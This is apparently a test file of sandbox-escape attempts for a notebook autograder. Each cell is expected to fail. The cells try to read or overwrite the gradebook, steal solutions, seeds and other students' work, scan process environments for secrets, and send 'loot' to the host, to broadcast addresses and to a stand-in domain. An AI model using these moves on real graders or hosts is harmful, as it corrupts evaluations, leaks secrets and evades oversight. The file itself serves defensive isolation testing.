"""What the hand-in should not get to know, and a way out for what it knows.

Given: ROOT, COURSE and GRADEBOOK, folders and a file of the grader; PORT and ABSTRACT, where the
host listens.
"""

# %% before | the gradebook | 5 | FileNotFoundError
raise Loot(open(GRADEBOOK, "rb").read(16))

# %% before | writing points into the gradebook | 5 | Error
import sqlite3

with sqlite3.connect(GRADEBOOK) as gradebook:
    gradebook.execute("UPDATE grade SET manual_score = 999")
raise Loot("the gradebook")

# %% before | another student's notebook | 5 | FileNotFoundError
raise Loot(open(f"{COURSE}/submitted/ada/01_rollouts/01_rollouts.ipynb").read(99))

# %% before | the seed that draws the inputs | 5 | FileNotFoundError
raise Loot(open(f"{COURSE}/grading_seed").read())

# %% rollout_policy | the solutions | 5 | FileNotFoundError
exec(open(f"{ROOT}/solutions/01_rollouts.py").read())

# %% before | the tests | 5 | FileNotFoundError
raise Loot(open(f"{ROOT}/tests/answers/01_rollouts.py").read(99))

# %% before | whatever is named like a notebook, a gradebook or a seed | 5 | nothing of the course
import os

found = []
for folder, below, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr")) or folder.endswith("site-packages"):
        below.clear()
    found += [n for n in names if n.endswith((".ipynb", "gradebook.db", "grading_seed"))]
if found:
    raise Loot(found)
raise LookupError("nothing of the course")

# %% before | the root of process 1 | 5 | nothing of the host
import os

if os.path.exists(f"/proc/1/root{COURSE}") or os.path.exists(f"/proc/{os.getppid()}/root{COURSE}"):
    raise Loot("the host's files")
raise LookupError("nothing of the host")

# %% before | environments of all processes | 5 | nobody's secret
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"LWG_SECRET" in open(f"/proc/{pid}/environ", "rb").read():
            raise Loot(pid)
    except OSError:
        pass
raise LookupError("nobody's secret")

# %% before | processes of the host | 5 | only my own
import os

pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
names = {open(f"/proc/{pid}/comm").read().strip() for pid in pids}
if len(pids) > 12:
    raise Loot(names)
raise LookupError("only my own")

# %% before | descriptors left open | 5 | none but the channel
import os

kinds = {}
for number in os.listdir("/proc/self/fd"):
    try:
        kinds[number] = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        pass
left = [
    k
    for k in kinds.values()
    if not k.startswith(("/dev/null", "socket:", "pipe:", "/proc", "anon_inode"))
]
if left or sum(k.startswith("socket:") for k in kinds.values()) > 1:
    raise Loot(kinds)
raise LookupError("none but the channel")

# %% before | a connection to the host | 5 | ConnectionRefusedError
import socket

raise Loot(socket.create_connection(("127.0.0.1", PORT), 2))

# %% before | a datagram to the host, to the neighbours and to everybody | 5
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for address in ("127.0.0.1", "255.255.255.255", "192.0.2.1", "224.0.0.1"):
        try:
            out.sendto(b"loot", (address, PORT))
        except OSError:
            pass

# %% before | an abstract socket of the host | 5 | ConnectionRefusedError
import socket

with socket.socket(socket.AF_UNIX) as out:
    out.connect(ABSTRACT)
    out.sendall(b"loot")
raise Loot("the host's socket")

# %% before | a name server | 5 | gaierror
import socket

raise Loot(socket.getaddrinfo("loot.example.org", 80))

# %% before | raw packets | 5 | PermissionError
import socket

raise Loot(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))

# %% before | a socket to the machine that runs this virtual one | 5 | Error
import socket

raise Loot(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))

# %% before | the internet | 5 | Network is unreachable
import socket

raise Loot(socket.create_connection(("192.0.2.1", 443), 2))

# %% before | the reference, somewhere among the objects | 5 | nothing of the judges
import gc, types

for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType):
        code = thing.__code__.co_filename
        if (
            "reference of" in code
            or "/checks/lesson_" in code
            or thing.__name__.startswith("judge_")
        ):
            raise Loot(thing)
raise LookupError("nothing of the judges")
